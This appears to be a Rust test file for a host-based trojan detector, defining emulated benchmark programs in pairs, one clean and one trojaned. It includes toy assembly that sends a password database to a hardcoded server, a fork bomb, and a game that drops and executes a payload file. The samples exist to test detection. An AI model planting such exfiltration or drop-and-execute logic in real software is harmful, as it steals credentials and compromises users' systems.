@@ -1,0 +1,412 @@
+//! §8.4 — macro benchmarks: real applications, clean and trojaned.
+//!
+//! * **pwsafe** — a password database manager; the trojaned variant
+//!   exfiltrates the database to a hardcoded server (paper §8.4.1).
+//! * **mw2.2.1** — a dictionary-lookup script; the modified variant
+//!   fork-bombs (paper §8.4.2).
+//! * **Ultra Tic-Tac-Toe** — a console game; the trojaned variant drops
+//!   and executes a file (paper §8.4.3).
+
+use emukernel::{Endpoint, FileNode, Peer};
+use hth_core::{Session, Severity};
+
+use crate::scenario::{Expectation, Group, Scenario, StartSpec};
+
+/// All §8.4 scenarios.
+pub fn scenarios() -> Vec<Scenario> {
+    vec![
+        pwsafe_clean(),
+        pwsafe_trojaned(),
+        mw_lookup(),
+        mw_forkbomb(),
+        ttt_clean(),
+        ttt_trojaned(),
+    ]
+}
+
+const PWSAFE_DB: &str = "/home/user/.pwsafe.dat";
+
+fn install_pwsafe_db(session: &mut Session) {
+    session.kernel.vfs.install(
+        PWSAFE_DB,
+        FileNode::regular(b"site=bank.example user=alice pass=hunter2".to_vec()),
+    );
+}
+
+fn pwsafe_clean() -> Scenario {
+    Scenario {
+        id: "pwsafe",
+        group: Group::Macro,
+        description: "pwsafe --exportdb: prints the password database on the console",
+        paper_note: "no warnings (console output only)",
+        expected: Expectation::Silent,
+        setup: Box::new(|session: &mut Session| {
+            install_pwsafe_db(session);
+            session.kernel.register_binary(
+                "/usr/bin/pwsafe",
+                r#"
+                _start:
+                    mov eax, 4          ; print the help banner
+                    mov ebx, 1
+                    mov ecx, banner
+                    mov edx, 24
+                    int 0x80
+                    mov eax, 5          ; open the database (hardcoded path)
+                    mov ebx, dbpath
+                    mov ecx, 0
+                    int 0x80
+                    mov edi, eax
+                    mov eax, 3
+                    mov ebx, edi
+                    mov ecx, 0x09000000
+                    mov edx, 40
+                    int 0x80
+                    mov eax, 4          ; export to the console
+                    mov ebx, 1
+                    mov ecx, 0x09000000
+                    mov edx, 40
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                banner: .asciz "pwsafe 0.2.0 exportdb   "
+                dbpath: .asciz "/home/user/.pwsafe.dat"
+                "#,
+                &[],
+            );
+            StartSpec::plain("/usr/bin/pwsafe").arg("--exportdb")
+        }),
+    }
+}
+
+fn pwsafe_trojaned() -> Scenario {
+    Scenario {
+        id: "pwsafe_trojaned",
+        group: Group::Macro,
+        description: "pwsafe with injected code sending the database to duero:40400",
+        paper_note: "paper: Low warnings (its tracker attributed the data to shared \
+                     objects); complete tracking attributes the database file and \
+                     grades the exfiltration High",
+        expected: Expectation::Rules(Severity::High, &["flow_file_to_socket"]),
+        setup: Box::new(|session: &mut Session| {
+            install_pwsafe_db(session);
+            session.kernel.net.add_host("duero", 0x0a14_0001);
+            session
+                .kernel
+                .net
+                .add_peer(Endpoint { ip: 0x0a14_0001, port: 40400 }, Peer::default());
+            session.kernel.register_binary(
+                "/usr/bin/pwsafe",
+                r#"
+                _start:
+                    mov eax, 5          ; open the database (hardcoded path)
+                    mov ebx, dbpath
+                    mov ecx, 0
+                    int 0x80
+                    mov edi, eax
+                    mov eax, 3
+                    mov ebx, edi
+                    mov ecx, 0x09000000
+                    mov edx, 40
+                    int 0x80
+                    mov eax, 4          ; normal behaviour: print it
+                    mov ebx, 1
+                    mov ecx, 0x09000000
+                    mov edx, 40
+                    int 0x80
+                    ; --- injected trojan: send the buffer to duero ---
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov esi, eax
+                    mov [connargs], esi
+                    mov eax, 102
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    mov [sendargs], esi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, sendargs
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                dbpath:   .asciz "/home/user/.pwsafe.dat"
+                sockargs: .long 2, 1, 0
+                taddr:    .word 2
+                tport:    .word 40400
+                tip:      .long 0x0a140001
+                connargs: .long 0, taddr, 8
+                sendargs: .long 0, 0x09000000, 40, 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/usr/bin/pwsafe").arg("--exportdb")
+        }),
+    }
+}
+
+fn mw_lookup() -> Scenario {
+    Scenario {
+        id: "mw2.2.1",
+        group: Group::Macro,
+        description: "dictionary lookup: fetches a user-given word from the M-W site",
+        paper_note: "no warnings on the original script",
+        expected: Expectation::Silent,
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.net.add_host("www.m-w.com", 0x0a1e_0001);
+            session.kernel.net.add_peer(
+                Endpoint { ip: 0x0a1e_0001, port: 80 },
+                Peer {
+                    on_connect: vec![b"HTTP/1.0 200 OK".to_vec()],
+                    ..Peer::default()
+                },
+            );
+            // The user supplies both the word and (conceptually) the site;
+            // the address bytes arrive from the console like a config.
+            let mut sockaddr = Vec::new();
+            sockaddr.extend_from_slice(&2u16.to_le_bytes());
+            sockaddr.extend_from_slice(&80u16.to_le_bytes());
+            sockaddr.extend_from_slice(&0x0a1e_0001u32.to_le_bytes());
+            session.kernel.push_stdin(sockaddr);
+            session.kernel.register_binary(
+                "/usr/bin/mw",
+                r"
+                .equ ADDR, 0x09020000
+                _start:
+                    mov ebp, esp
+                    mov eax, 3          ; the user-configured server address
+                    mov ebx, 0
+                    mov ecx, ADDR
+                    mov edx, 8
+                    int 0x80
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov esi, eax
+                    mov [connargs], esi
+                    mov eax, 102        ; connect
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    ; send the user's word as the query
+                    mov eax, [ebp+8]    ; argv[1]
+                    mov [sendargs+4], eax
+                    mov [sendargs], esi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, sendargs
+                    int 0x80
+                    ; print the response
+                    mov [recvargs], esi
+                    mov eax, 102
+                    mov ebx, 10
+                    mov ecx, recvargs
+                    int 0x80
+                    mov eax, 4
+                    mov ebx, 1
+                    mov ecx, 0x09000000
+                    mov edx, 15
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                sockargs: .long 2, 1, 0
+                connargs: .long 0, 0x09020000, 8
+                sendargs: .long 0, 0, 8, 0
+                recvargs: .long 0, 0x09000000, 15, 0
+                ",
+                &[],
+            );
+            StartSpec::plain("/usr/bin/mw").arg("serendipity")
+        }),
+    }
+}
+
+fn mw_forkbomb() -> Scenario {
+    Scenario {
+        id: "mw2.2.1_forkbomb",
+        group: Group::Macro,
+        description: "the modified script forks more than 20 children",
+        paper_note: "Low (frequent clone) then Medium (very frequent)",
+        expected: Expectation::Rules(
+            Severity::Medium,
+            &["check_clone_count", "check_clone_rate"],
+        ),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.register_binary(
+                "/usr/bin/mw",
+                r"
+                _start:
+                    mov edi, 22
+                fb_loop:
+                    mov eax, 2
+                    int 0x80
+                    cmp eax, 0
+                    je fb_child
+                    dec edi
+                    cmp edi, 0
+                    jne fb_loop
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                fb_child:
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                ",
+                &[],
+            );
+            StartSpec::plain("/usr/bin/mw").arg("word")
+        }),
+    }
+}
+
+fn ttt_clean() -> Scenario {
+    Scenario {
+        id: "ttt",
+        group: Group::Macro,
+        description: "Ultra Tic-Tac-Toe: reads the user's moves, prints the board",
+        paper_note: "no warnings",
+        expected: Expectation::Silent,
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.push_stdin(b"5".to_vec());
+            session.kernel.push_stdin(b"1".to_vec());
+            session.kernel.register_binary(
+                "/usr/games/ttt",
+                r#"
+                _start:
+                    mov edi, 2          ; two moves
+                game_loop:
+                    mov eax, 4          ; print the board
+                    mov ebx, 1
+                    mov ecx, board
+                    mov edx, 11
+                    int 0x80
+                    mov eax, 3          ; read a move
+                    mov ebx, 0
+                    mov ecx, 0x09000000
+                    mov edx, 4
+                    int 0x80
+                    dec edi
+                    cmp edi, 0
+                    jne game_loop
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                board: .asciz ".X.|.O.|..."
+                "#,
+                &[],
+            );
+            StartSpec::plain("/usr/games/ttt")
+        }),
+    }
+}
+
+fn ttt_trojaned() -> Scenario {
+    Scenario {
+        id: "ttt_trojaned",
+        group: Group::Macro,
+        description: "the game drops malicious_code.txt, chmods it and executes it",
+        paper_note: "High for the dropped file; Low for executing it (the exec \
+                     fails — the file is not a valid executable, paper footnote 9)",
+        expected: Expectation::Rules(Severity::High, &["flow_binary_to_file", "check_execve"]),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.push_stdin(b"5".to_vec());
+            session.kernel.register_binary(
+                "/usr/games/ttt",
+                r#"
+                _start:
+                    mov eax, 4          ; look like a game
+                    mov ebx, 1
+                    mov ecx, board
+                    mov edx, 11
+                    int 0x80
+                    mov eax, 3
+                    mov ebx, 0
+                    mov ecx, 0x09000000
+                    mov edx, 4
+                    int 0x80
+                    ; --- the trojan ---
+                    mov eax, 5          ; drop the payload
+                    mov ebx, payload_name
+                    mov ecx, 0x41
+                    int 0x80
+                    mov esi, eax
+                    mov eax, 4
+                    mov ebx, esi
+                    mov ecx, payload
+                    mov edx, 20
+                    int 0x80
+                    mov eax, 6
+                    mov ebx, esi
+                    int 0x80
+                    mov eax, 15         ; chmod +x
+                    mov ebx, payload_name
+                    mov ecx, 0x1ff
+                    int 0x80
+                    mov eax, 11         ; execute it (fails: not executable format)
+                    mov ebx, payload_name
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                board:        .asciz ".X.|.O.|..."
+                payload_name: .asciz "./malicious_code.txt"
+                payload:      .asciz "PAYLOAD: rm -rf all"
+                "#,
+                &[],
+            );
+            StartSpec::plain("/usr/games/ttt")
+        }),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn macro_benchmarks_match_expectations() {
+        let mut failures = Vec::new();
+        for scenario in scenarios() {
+            let result = scenario.run().unwrap();
+            if !result.correct() {
+                failures.push(format!(
+                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
+                    scenario.id,
+                    scenario.expected,
+                    result.max_severity(),
+                    result.rules_fired(),
+                    result.transcript,
+                ));
+            }
+        }
+        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
+    }
+
+    #[test]
+    fn trojaned_variants_warn_where_clean_ones_do_not() {
+        assert!(pwsafe_clean().run().unwrap().warnings.is_empty());
+        assert!(!pwsafe_trojaned().run().unwrap().warnings.is_empty());
+        assert!(ttt_clean().run().unwrap().warnings.is_empty());
+        assert!(!ttt_trojaned().run().unwrap().warnings.is_empty());
+    }
+
+    #[test]
+    fn ttt_exec_of_dropped_file_fails_but_is_reported() {
+        let result = ttt_trojaned().run().unwrap();
+        assert!(result.transcript.contains("malicious_code.txt"));
+        let execs: Vec<_> =
+            result.warnings.iter().filter(|w| w.rule == "check_execve").collect();
+        assert_eq!(execs.len(), 1);
+    }
+}
